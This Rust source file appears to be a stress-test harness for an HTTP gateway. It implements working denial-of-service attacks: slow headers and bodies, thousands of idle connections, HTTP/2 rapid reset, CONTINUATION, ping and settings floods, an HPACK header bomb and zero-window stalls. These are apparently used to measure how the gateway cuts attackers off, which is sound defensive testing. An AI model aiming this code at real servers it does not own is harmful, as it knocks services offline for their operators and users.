//! Attacks on connections: what HTTP allows and no honest client does.

use std::{
    io,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::{sleep, timeout, timeout_at},
};

/// An attack.
#[derive(Debug, Clone, Copy)]
pub enum Attack {
    /// Heads that come byte by byte.
    SlowHeads,
    /// Bodies that come byte by byte.
    SlowBodies,
    /// Connections that were good for one request and then stay.
    Idle,
    /// Streams of HTTP/2 that are opened and reset at once.
    RapidReset,
    /// Heads of HTTP/2 that never end.
    Continuations,
    /// Pings of HTTP/2 whose answers nobody reads.
    Pings,
    /// Settings of HTTP/2, again and again.
    Settings,
    /// A few bytes that stand for megabytes of headers.
    HeaderBomb,
    /// Requests whose answers get no room.
    ZeroWindow,
}

/// All of them.
pub const ALL: [Attack; 9] = [
    Attack::SlowHeads,
    Attack::SlowBodies,
    Attack::Idle,
    Attack::RapidReset,
    Attack::Continuations,
    Attack::Pings,
    Attack::Settings,
    Attack::HeaderBomb,
    Attack::ZeroWindow,
];

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// What an attack achieved.
#[derive(Default)]
struct Tally {
    connections: AtomicU64,
    cut: AtomicU64,
    frames: AtomicU64,
}

impl Attack {
    /// What a table calls it.
    pub const fn name(self) -> &'static str {
        match self {
            Self::SlowHeads => "8,000 heads, byte by byte",
            Self::SlowBodies => "2,000 bodies, byte by byte",
            Self::Idle => "8,000 idle connections",
            Self::RapidReset => "16 connections of opened and reset streams",
            Self::Continuations => "16 connections of endless heads",
            Self::Pings => "16 connections of pings",
            Self::Settings => "16 connections of settings",
            Self::HeaderBomb => "100 connections of headers that unfold",
            Self::ZeroWindow => "100 connections without room for answers",
        }
    }

    const fn connections(self) -> usize {
        match self {
            Self::SlowHeads | Self::Idle => 8000,
            Self::SlowBodies => 2000,
            Self::RapidReset | Self::Continuations | Self::Pings | Self::Settings => 16,
            Self::HeaderBomb | Self::ZeroWindow => 100,
        }
    }

    /// Attacks for as long as that; what came of it.
    pub async fn run(self, gateway: SocketAddr, path: &str, during: Duration) -> String {
        let (tally, end) = (Arc::new(Tally::default()), Instant::now() + during);
        let mut running = JoinSet::new();
        for _ in 0..self.connections() {
            let (tally, path) = (Arc::clone(&tally), path.to_owned());
            running.spawn(async move {
                while Instant::now() < end {
                    let attacking = self.once(gateway, &path, &tally, end);
                    if let Ok(ended) = timeout_at(end.into(), attacking).await {
                        tally.cut.fetch_add(1, Ordering::Relaxed);
                        if ended.is_err() {
                            sleep(Duration::from_millis(20)).await;
                        }
                    }
                }
            });
        }
        running.join_all().await;
        let [connections, cut, frames] =
            [&tally.connections, &tally.cut, &tally.frames].map(|count| count.load(Ordering::Relaxed));
        match frames {
            0 => format!("{connections} connections, {cut} cut off"),
            _ => format!("{connections} connections, {cut} cut off, {frames} frames taken"),
        }
    }

    /// One connection, until it is cut off.
    async fn once(self, gateway: SocketAddr, path: &str, tally: &Tally, end: Instant) -> io::Result<()> {
        let mut stream = TcpStream::connect(gateway).await?;
        tally.connections.fetch_add(1, Ordering::Relaxed);
        match self {
            Self::SlowHeads => {
                stream
                    .write_all(b"GET / HTTP/1.1\r\nhost: localhost\r\nx: ")
                    .await?;
                dribble(stream).await
            }
            Self::SlowBodies => {
                let head = "POST /api/v1/auth/login HTTP/1.1\r\nhost: localhost\r\n\
                            content-type: application/json\r\ncontent-length: 9999\r\n\r\n";
                stream.write_all(head.as_bytes()).await?;
                dribble(stream).await
            }
            Self::Idle => {
                let request = format!("GET {path} HTTP/1.1\r\nhost: localhost\r\n\r\n");
                stream.write_all(request.as_bytes()).await?;
                drain(stream).await
            }
            _ => self.frames(stream, path, tally, end).await,
        }
    }

    async fn frames(self, stream: TcpStream, path: &str, tally: &Tally, end: Instant) -> io::Result<()> {
        let (mut reading, mut writing) = stream.into_split();
        let reading = async move {
            let mut buffer = vec![0; 64 * 1024];
            loop {
                let read = reading.read(&mut buffer).await?;
                // Frames begin where reads begin often enough to find the one that matters.
                if read == 0 || buffer.get(3) == Some(&GOAWAY) {
                    return Ok(());
                }
            }
        };
        let room = match self {
            Self::ZeroWindow => vec![0, 4, 0, 0, 0, 0],
            _ => Vec::new(),
        };
        let attacking = async move {
            writing.write_all(PREFACE).await?;
            writing.write_all(&frame(SETTINGS, 0, 0, &room)).await?;
            let mut stream_id = 1_u32;
            loop {
                let (bytes, count) = self.batch(path, &mut stream_id);
                writing.write_all(&bytes).await?;
                tally.frames.fetch_add(count, Ordering::Relaxed);
                if matches!(self, Self::HeaderBomb | Self::ZeroWindow) {
                    // What is in memory now is what counts.
                    sleep(end.saturating_duration_since(Instant::now())).await;
                }
            }
        };
        tokio::select! {
            ended = reading => ended,
            ended = attacking => ended,
        }
    }

    /// The next frames, and how many they are.
    fn batch(self, path: &str, stream_id: &mut u32) -> (Vec<u8>, u64) {
        let request = request(path);
        let mut bytes = Vec::new();
        let mut count = 0;
        for _ in 0..100 {
            let id = *stream_id;
            match self {
                Self::RapidReset => {
                    bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &request));
                    bytes.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
                    *stream_id += 2;
                    count += 1;
                }
                Self::Continuations if id == 1 => {
                    bytes.extend(frame(HEADERS, END_STREAM, id, &request));
                    *stream_id += 2;
                }
                // A header that is never indexed: "x: …".
                Self::Continuations => {
                    let mut header = vec![0x10, 1, b'x', 100];
                    header.extend([b'y'; 100]);
                    bytes.extend(frame(CONTINUATION, 0, 1, &header));
                }
                Self::Pings => bytes.extend(frame(PING, 0, 0, &[7; 8])),
                Self::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
                Self::HeaderBomb => {
                    let mut block = request.clone();
                    // "x: yyy…" is put into the table once, then named by one byte 490 times.
                    block.extend([0x40, 1, b'x', 0x7f, 0x81, 0x1e]);
                    block.extend([b'y'; 4000]);
                    block.extend([0xbe; 490]);
                    bytes.extend(frame(HEADERS, END_HEADERS, id, &block));
                    *stream_id += 2;
                }
                _ => {
                    bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &request));
                    *stream_id += 2;
                }
            }
            count += 1;
        }
        (bytes, count)
    }
}

/// The head of a GET, as HPACK.
fn request(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86];
    for (index, value) in [(4, path), (1, "localhost")] {
        block.push(index);
        block.push(u8::try_from(value.len()).expect("short"));
        block.extend_from_slice(value.as_bytes());
    }
    block
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// A byte a second, until the other side has enough.
async fn dribble(mut stream: TcpStream) -> io::Result<()> {
    loop {
        stream.write_all(b" ").await?;
        let mut heard = [0; 1024];
        if let Ok(read) = timeout(Duration::from_secs(1), stream.read(&mut heard)).await {
            read?;
            return Ok(());
        }
    }
}

/// Reads until the other side has enough.
async fn drain(mut stream: TcpStream) -> io::Result<()> {
    let mut heard = vec![0; 4096];
    while stream.read(&mut heard).await? > 0 {}
    Ok(())
}

/// How long each kind of idler may stay.
pub async fn until_cut(gateway: SocketAddr, path: &str) -> String {
    let longest = Instant::now() + Duration::from_secs(60);
    let tally = Tally::default();
    let timed = async |attack: Attack| {
        let begun = Instant::now();
        let _ended = timeout_at(longest.into(), attack.once(gateway, path, &tally, longest)).await;
        format!("{:.1} s", begun.elapsed().as_secs_f64())
    };
    let (head, body, idle, window) = tokio::join!(
        timed(Attack::SlowHeads),
        timed(Attack::SlowBodies),
        timed(Attack::Idle),
        timed(Attack::ZeroWindow)
    );
    format!(
        "cut off after: a slow head {head}, a slow body {body}, an idle connection {idle}, one without room for answers {window}"
    )
}
